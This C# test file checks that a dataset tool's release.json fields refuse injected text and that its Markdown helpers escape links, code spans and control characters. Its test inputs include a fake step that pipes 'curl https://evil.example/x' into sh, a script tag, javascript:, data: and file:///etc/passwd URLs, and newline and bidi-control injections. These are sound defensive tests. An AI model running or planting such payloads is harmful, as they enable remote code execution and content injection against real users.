using Dataset.Releases;
using Dataset.Releases.Metadata;
using Dataset.Sources;

namespace Dataset.Tests.Verification;

/// <summary>
/// What a stranger may write into <c>release.json</c>: each member is held to the rules of <c>dataset.yaml</c>, and what comes through into
/// a text says nothing but itself.
/// </summary>
public class ManifestTextTests
{
    private const string Evil = "en`\n\n## Checking it\n\n```sh\ncurl https://evil.example/x | sh\n```\n\n<script>alert(1)</script>\n\n`";

    private static readonly string[] Bad =
    [
        Evil, "", "a\u001b[31mb", "a\u202eb", "a\u2066b", "a\u0000b", "a\rb", "a\u009bb", "a\ufffeb", "e\u0301", new('a', 100_001),
    ];

    public static TheoryData<string> Members =>
    [
        "name", "title", "description", "language", "homepage", "url", "contact", "notes", "datasheet.question", "datasheet.answer",
        "keywords", "licenses.name", "licenses.title", "licenses.url",
        "licenses.covers",
        "creators.name", "creators.url", "recipe.name", "recipe.steps", "tool.name", "tool.version", "tables.name", "tables.title",
    ];

    [Theory]
    [MemberData(nameof(Members))]
    public void DS6010_a_text_that_no_descriptor_could_have_is_refused(string member)
    {
        var mayHaveLines = member is "description" or "notes" or "datasheet.answer" or "keywords" or "licenses.covers";
        foreach (var text in Bad.Where(t => t != Evil || !mayHaveLines))
        {
            var release = TestReleases.Tiny();
            release.Manifest = With(release.Manifest, member, text);
            release.SealManifest();
            Assert.Contains(release.Findings(), f => f.Rule.Id == "DS6010" && f.Location.Path == "r/release.json");
        }
    }

    [Theory]
    [InlineData("homepage", "javascript:alert(1)")]
    [InlineData("homepage", "https://x.example/ y")]
    [InlineData("homepage", "https://x.example/\n\n## Checking it")]
    [InlineData("homepage", "https://")]
    [InlineData("homepage", "x.example")]
    [InlineData("licenses.url", "data:text/html,x")]
    [InlineData("licenses.url", "HTTPS://x.example/")]
    [InlineData("creators.url", "file:///etc/passwd")]
    [InlineData("creators.url", "x\n\n# pwn\n\n")]
    [InlineData("language", "english")]
    [InlineData("language", "en_GB")]
    [InlineData("language", "en-")]
    [InlineData("licenses.name", "CC BY 4.0")]
    [InlineData("licenses.name", "`MIT`")]
    [InlineData("recipe.name", "text-2")]
    [InlineData("recipe.steps", "decode-utf-8")]
    [InlineData("tool.version", "1.0.0 (evil)")]
    [InlineData("title", "two\nlines")]
    [InlineData("tables.title", "a\ttab")]
    public void DS6010_a_text_of_another_form_is_refused(string member, string text)
    {
        var release = TestReleases.Tiny();
        release.Manifest = With(release.Manifest, member, text);
        release.SealManifest();
        Assert.Contains(release.Findings(), f => f.Rule.Id == "DS6010");
    }

    [Fact]
    public void DS6010_lists_have_a_limit()
    {
        var release = TestReleases.Tiny();
        release.Manifest = release.Manifest with { Keywords = [.. Enumerable.Range(0, 10_001).Select(i => $"k{i}")] };
        release.SealManifest();
        Assert.Contains("Expected at most 10000 entries for \"keywords\"", Assert.Single(release.Verify()), StringComparison.Ordinal);
    }

    [Fact]
    public void A_manifest_that_a_tool_of_another_version_wrote_may_name_another_recipe()
    {
        var release = TestReleases.Tiny();
        release.Manifest = release.Manifest with { Tool = new("dataset", "2.0.0-beta.1"), Recipe = "text-2", RecipeSteps = ["fold-case"] };
        release.SealManifest();
        Assert.Equal("DS6015", Assert.Single(release.Findings()).Rule.Id);
    }

    [Theory]
    [InlineData(" ")]
    [InlineData("{}")]
    public void DS6014_a_schema_of_the_manifest_that_is_not_the_tools_own_is_found(string text)
    {
        var release = TestReleases.Tiny();
        release["schema/release.schema.json"] = text;
        release.Seal();
        Assert.Equal("DS6014", Assert.Single(release.Findings()).Rule.Id);
    }

    [Theory]
    [InlineData("en", "`en`")]
    [InlineData("a`b", "`` a`b ``")]
    [InlineData("``", "``` `` ```")]
    [InlineData("a\n\n# b", "`a  # b`")]
    [InlineData("a\u202eb\u001bc", "`a\\u{202E}b\\u{001B}c`")]
    public void A_code_span_holds_whatever_it_is_given(string text, string expected) => Assert.Equal(expected, MarkdownText.Code(text));

    [Theory]
    [InlineData("https://x.example/", "[T](https://x.example/)")]
    [InlineData("mailto:a@x.example", "[T](mailto:a@x.example)")]
    [InlineData("javascript:alert(1)", "T (`javascript:alert(1)`)")]
    [InlineData("data:text/html,x", "T (`data:text/html,x`)")]
    [InlineData("https://x.example/ \"y\"\n# z", "[T](https://x.example/%20%22y%22%0A#%20z)")]
    [InlineData("https://x.example/\u202e", "[T](https://x.example/%E2%80%AE)")]
    public void A_link_leads_only_where_a_browser_may_go(string url, string expected) => Assert.Equal(
        expected, MarkdownText.Link("T", url));

    [Theory]
    [InlineData("a\u202eb", "a\\\\u{202E}b")]
    [InlineData("a\u001b[31mb", "a\\\\u{001B}\\[31mb")]
    [InlineData("a\ufdd0b", "a\\\\u{FDD0}b")]
    [InlineData("نامه\u200cها", "نامه\u200cها")]
    public void Controls_are_shown_and_not_obeyed(string text, string expected) => Assert.Equal(expected, MarkdownText.Line(text));

    private static Manifest With(Manifest m, string member, string text) => member switch
    {
        "name" => m with { Name = text },
        "title" => m with { Title = text },
        "description" => m with { Description = text },
        "language" => m with { Language = text },
        "homepage" => m with { Homepage = text },
        "url" => m with { Url = text },
        "contact" => m with { Contact = text },
        "notes" => m with { Notes = text },
        "datasheet.question" => m with { Datasheet = [new(text, "Answer")] },
        "datasheet.answer" => m with { Datasheet = [new("Question?", text)] },
        "keywords" => m with { Keywords = [text] },
        "licenses.name" => m with { Licenses = [m.Licenses[0] with { Name = text }] },
        "licenses.title" => m with { Licenses = [m.Licenses[0] with { Title = text }] },
        "licenses.url" => m with { Licenses = [m.Licenses[0] with { Url = text }] },
        "licenses.covers" => m with { Licenses = [m.Licenses[0] with { Covers = text }] },
        "creators.name" => m with { Creators = [new Creator(text, null)] },
        "creators.url" => m with { Creators = [m.Creators[0] with { Url = text }] },
        "recipe.name" => m with { Recipe = text },
        "recipe.steps" => m with { RecipeSteps = [text] },
        "tool.name" => m with { Tool = m.Tool with { Name = text } },
        "tool.version" => m with { Tool = m.Tool with { Version = text } },
        "tables.name" => m with { Tables = [m.Tables[0] with { Name = text }] },
        "tables.title" => m with { Tables = [m.Tables[0] with { Title = text }] },
        _ => throw new ArgumentException(member, nameof(member)),
    };
}
